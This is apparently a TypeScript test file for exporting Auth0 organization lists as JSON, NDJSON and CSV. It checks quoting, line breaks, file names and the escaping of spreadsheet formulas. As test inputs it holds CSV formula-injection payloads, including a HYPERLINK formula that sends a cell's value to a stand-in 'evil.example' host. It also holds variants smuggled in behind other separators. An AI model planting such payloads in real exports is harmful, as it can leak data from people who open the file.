import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { type Organization, readOrganization } from '../../../src/api/organization.ts';
import { exportFileName } from '../../../src/export/exportFormats.ts';
import { csvLines } from '../../../src/text/csv.ts';
import { sampleOrganizations } from '../../tenant/sampleData.ts';
import { foreignNames, hostileNames } from '../../tenant/sampleText.ts';
import { exportedText } from '../documents/writtenText.ts';

/** In several portions, the last of which is not full. What stands for no logo is a null at times. */
const samples: readonly Organization[] = [
  ...sampleOrganizations(249).map((organization) => ({ ...organization })),
  {
    id: 'org_1',
    name: 'acme',
    branding: { logo_url: null, colors: { primary: '#0059d6', page_background: '#ffffff' } },
  },
];

/** Names that break a line, a quote or an encoding, or are written in more than one direction. */
const names = [
  ...foreignNames,
  ...hostileNames,
  'x'.repeat(255),
  'שלום "עולם", ועוד'.repeat(15),
  'a\u202eb\u2066c\u2069',
  'first\nsecond\r\nthird\rfourth',
  'separated\u2028by\u2029others',
  '"',
  '""',
  ',',
  "'",
  '',
  '\u0000\u001f',
];

/** What a spreadsheet would run. */
const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t1',
  '\r1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=',
];

/** What it would run when something else than a comma is between its cells, and what it is made. */
const hiddenFormulas: readonly (readonly [text: string, escaped: string])[] = [
  ['Acme;=HYPERLINK("https://evil.example")', 'Acme;\'=HYPERLINK("https://evil.example")'],
  ['Acme;"=1+1;', 'Acme;"\'=1+1;'],
  ['Acme\t+1', "Acme\t'+1"],
  ['Acme;＝1;＋1;－1;＠1', "Acme;'＝1;'＋1;'－1;'＠1"],
  ['Acme\n=1+1;', "Acme\n'=1+1;"],
  ['Acme\r\n=1+1;', "Acme\r\n'=1+1;"],
  ['=1\n=2', "'=1\n'=2"],
  ['\t=1', "'\t'=1"],
  // Some programs take blanks and U+0000 away before they look for a formula.
  [' =1', " '=1"],
  [' \u00a0\ufeff+1', " \u00a0\ufeff'+1"],
  ['\0=1', "\0'=1"],
  ['Acme; "=1', 'Acme; "\'=1'],
  ['Acme\n @1', "Acme\n '@1"],
  ['a-b; c=d | e@f', 'a-b; c=d | e@f'],
];

/**
 * User IDs as Auth0 makes them: the strategy or the connection, and the ID that the identity provider has, which begins
 * with any character.
 * @see https://auth0.com/docs/manage-users/user-accounts/user-profiles/user-profile-structure
 */
const userIds = [
  'auth0|507f1f77bcf86cd799439020',
  'waad|-fTqQ3l7zYh0a_b-c',
  'samlp|acme-saml|=x@y.example',
  'samlp|acme-saml|@jane',
  'google-oauth2|103547991597142817347',
  'google-apps|jane@acme.example',
  'email|64f0c0ffee',
  'sms|+15550100',
  'oidc|acme-oidc|+1555',
  'oidc|acme-oidc|-1|=2',
  'ad|acme|9f1b-=c',
  'oauth2|custom|\"=1\"',
  'adfs|acme|＝1',
];

function named(displayNames: readonly string[]): readonly Organization[] {
  return displayNames.map((displayName, index) => ({ id: `org_${index}`, display_name: displayName }));
}

/** The cells of a table, as others read it. */
async function cellsOf(
  organizations: readonly Organization[],
  isCutOff = false,
): Promise<readonly (readonly string[])[]> {
  return parse(await exportedText('csv', organizations, isCutOff), { bom: true, record_delimiter: '\r\n' });
}

describe('Exporting as JSON', () => {
  it('writes what the document of the list shows, to the byte', async () => {
    for (const organizations of [samples, named(names), samples.slice(0, 100), samples.slice(0, 1), []]) {
      assert.equal(await exportedText('json', organizations), `${JSON.stringify({ organizations }, undefined, 2)}\n`);
    }
  });

  it('says that the list was cut off', async () => {
    for (const organizations of [samples, []]) {
      const text = await exportedText('json', organizations, true);
      assert.equal(text, `${JSON.stringify({ organizations, complete: false }, undefined, 2)}\n`);
    }
  });
});

describe('Exporting as NDJSON', () => {
  it('writes one object a line, and ends the last one', async () => {
    for (const organizations of [samples, named(names)]) {
      const lines = (await exportedText('ndjson', organizations)).split('\n');
      assert.equal(lines.pop(), '');
      assert.deepEqual(
        lines.map((line) => JSON.parse(line) as unknown),
        organizations,
      );
    }
    // Python's splitlines would end a line there.
    assert.match(
      await exportedText('ndjson', [{ id: 'org_1', name: 'a\u0085b\u2028c\u2029' }]),
      /"a\\u0085b\\u2028c\\u2029"/,
    );
    assert.equal(await exportedText('ndjson', []), '');
  });

  it('says in a last line that the list was cut off', async () => {
    assert.equal(await exportedText('ndjson', [{ id: 'org_1' }], true), '{"id":"org_1"}\n{"complete":false}\n');
  });
});

describe('Exporting as CSV', () => {
  it('begins with the mark by which spreadsheets know its encoding', async () => {
    assert.ok((await exportedText('csv', [])).startsWith('\ufeffid,name,'));
  });

  it('writes a line of names, and the same columns for each organization', async () => {
    const colors = ['primary_color', 'page_background_color'];
    const header = ['id', 'name', 'display_name', 'logo_url', ...colors, 'metadata', 'not_read'];
    const [first, ...rows] = await cellsOf(samples);
    assert.deepEqual(first, header);
    assert.equal(rows.length, samples.length);
    for (const [index, { id, name, branding, metadata }] of samples.entries()) {
      const { primary = '', page_background: background = '' } = branding?.colors ?? {};
      const row = rows[index]?.toSpliced(2, 1, '');
      const json = metadata ? JSON.stringify(metadata) : '';
      assert.deepEqual(row, [id, name, '', branding?.logo_url ?? '', primary, background, json, '']);
    }
    assert.deepEqual(await cellsOf([]), [header]);
  });

  it('says in a last row that the list was cut off', async () => {
    const [, ...rows] = await cellsOf([{ id: 'org_1' }, { id: '' }], true);
    const rest = ['', '', '', '', '', ''];
    assert.deepEqual(rows, [
      ['org_1', ...rest, ''],
      ['', ...rest, ''],
      ['', ...rest, 'cut off'],
    ]);
  });

  it('gives every name back, whatever it holds', async () => {
    const [, ...rows] = await cellsOf(named(names));
    assert.deepEqual(
      rows.map(([, , displayName]) => displayName),
      names,
    );
  });

  it('writes no cell that a spreadsheet would run', async () => {
    const organizations = [
      ...named(formulas),
      ...formulas.map((formula) => ({ id: formula, name: formula, branding: { logo_url: formula } })),
      { id: 'org_1', metadata: Object.fromEntries(formulas.map((formula) => [formula, formula])) },
    ];
    const [, ...rows] = await cellsOf(organizations);
    for (const cell of rows.flat()) {
      assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/);
    }
    assert.deepEqual(
      rows.slice(0, formulas.length).map(([, , displayName]) => displayName),
      formulas.map((formula) => `'${formula}`),
    );
  });

  it('writes nothing that a spreadsheet with another separator would run', async () => {
    const texts = hiddenFormulas.map(([text]) => text);
    const [, ...rows] = await cellsOf([...named(texts), { id: 'org_1', metadata: { key: 'Acme;=1' } }]);
    const metadata = rows.pop()?.at(-2);
    assert.deepEqual(
      rows.map(([, , displayName]) => displayName),
      hiddenFormulas.map(([, escaped]) => escaped),
    );
    assert.equal(metadata, `{"key":"Acme;'=1"}`);
    const text = await exportedText('csv', named([...texts, ...formulas]));
    for (const separator of [';', '\t']) {
      const cells = parse(text, { delimiter: separator, relax_quotes: true, relax_column_count: true }).flat();
      for (const cell of cells) {
        assert.doesNotMatch(cell, /^"*[=+\-@＝＋－＠]/);
      }
    }
  });

  it('separates and quotes as RFC 4180 has it', async () => {
    const [organization] = named(['a "b", c\nd']);
    assert.ok(organization);
    const text = await exportedText('csv', [{ ...organization, metadata: { key: null } }]);
    assert.equal(text.slice(text.indexOf('\r\n') + 2), 'org_0,,"a ""b"", c\nd",,,,"{""key"":null}",\r\n');
    for (const name of ['a\nb', 'a\rb', 'a\r\nb', 'a,b']) {
      assert.ok(
        (await exportedText('csv', named([name]))).endsWith(`\norg_0,,"${name}",,,,,\r\n`),
        JSON.stringify(name),
      );
    }
  });

  it('takes what the API may send beside texts', async () => {
    const colors = { primary: '#fff', page_background: { type: 'plain' } };
    const odd = [
      { id: 'org_1', name: null, display_name: 5, branding: null, metadata: null },
      { id: 'org_2', branding: { colors }, metadata: { plan: 'gold', seats: 5 } },
    ];
    const [, ...rows] = await cellsOf(odd.map((one) => readOrganization(one) ?? assert.fail()));
    assert.deepEqual(rows, [
      ['org_1', '', '5', '', '', '', '', ''],
      ['org_2', '', '', '', '#fff', '{"type":"plain"}', '{"plan":"gold","seats":5}', ''],
    ]);
  });
});

describe('A table as CSV', () => {
  it('has a line of names and one a row, and no cell that a spreadsheet would run', () => {
    const cells = [...names, ...formulas, ...hiddenFormulas.map(([text]) => text)];
    const text = csvLines([['Name', '=1+1'], ...cells.map((cell) => [cell, cell])]);
    const [header, ...rows]: readonly (readonly string[])[] = parse(text, { record_delimiter: '\r\n' });
    assert.deepEqual(header, ['Name', "'=1+1"]);
    assert.equal(rows.length, cells.length);
    for (const cell of rows.flat()) {
      assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/);
      assert.doesNotMatch(cell, /(?:^|[;\t\r\n]"*)[\s\0]*[=+\-@＝＋－＠]/);
    }
  });

  it('takes a time that grows with its length, also between many separators', () => {
    const long = `${'\n;'.repeat(500_000)}Acme`;
    assert.deepEqual(parse(csvLines([[long]]), { record_delimiter: '\r\n' }), [[long]]);
  });

  it('gives user IDs back as they are', () => {
    const text = csvLines([['user_id', 'name'], ...userIds.map((userId) => [userId, 'Jane'])]);
    assert.deepEqual(
      (parse(text, { columns: true, record_delimiter: '\r\n' }) as readonly { readonly user_id: string }[]).map(
        ({ user_id: userId }) => userId,
      ),
      userIds,
    );
  });
});

describe('The name of an exported file', () => {
  for (const [tenant, parts, name] of [
    ['Acme Production', ['organizations'], 'Acme-Production-organizations'],
    ['acme.eu.auth0.com', ['initech', 'members'], 'acme.eu-initech-members'],
    ['a/b\\c:d\u202e*?', ['organizations'], 'a-b-c-d----organizations'],
    ['x'.repeat(300), ['o'.repeat(60), 'members'], `${'x'.repeat(54)}-${'o'.repeat(50)}-members`],
    ['界'.repeat(300), ['organizations'], `${'界'.repeat(73)}-organizations`],
    // Devices of Windows, whatever follows the first dot.
    ['aux.eu.auth0.com', ['organizations'], 'aux-eu-organizations'],
    ['COM¹.x.y', ['organizations'], 'COM¹-x.y-organizations'],
    ['con', ['organizations'], 'con-organizations'],
    ['console.eu.auth0.com', ['organizations'], 'console.eu-organizations'],
  ] as const) {
    it(`begins with the tenant and stays short: ${name}`, () => {
      const found = exportFileName(tenant, ...parts);
      assert.equal(found, name);
      const whole = `${found}.ndjson`;
      assert.ok(whole.length <= 120 && Buffer.byteLength(whole) <= 240, `${whole.length}`);
    });
  }
});
